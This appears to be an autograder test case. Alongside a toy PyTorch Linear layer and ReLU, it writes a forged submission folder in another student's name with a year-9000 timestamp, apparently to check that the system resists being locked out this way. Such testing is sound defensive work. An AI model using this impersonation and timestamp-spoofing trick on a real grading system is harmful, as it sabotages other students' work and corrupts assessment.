# Tries: lock another student out, by a submission in their name from the year 9000
# Earns: 0

# %% toy.linear
class Linear(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(out_features, in_features))
        self.bias = nn.Parameter(torch.zeros(out_features))

    def forward(self, x):
        return x @ self.weight.T + self.bias

# %% toy.relu
def relu(x):
    return x.clamp(min=0)

# %% exchange
folder = inbound / f"{victim}+{lesson}+9000-01-01 00:00:00.000000 UTC+AAAA"
shutil.copytree(mine, folder)
(folder / "timestamp.txt").write_text("9000-01-01 00:00:00.000000 UTC")
(folder / "toy.ipynb").write_text("{}")
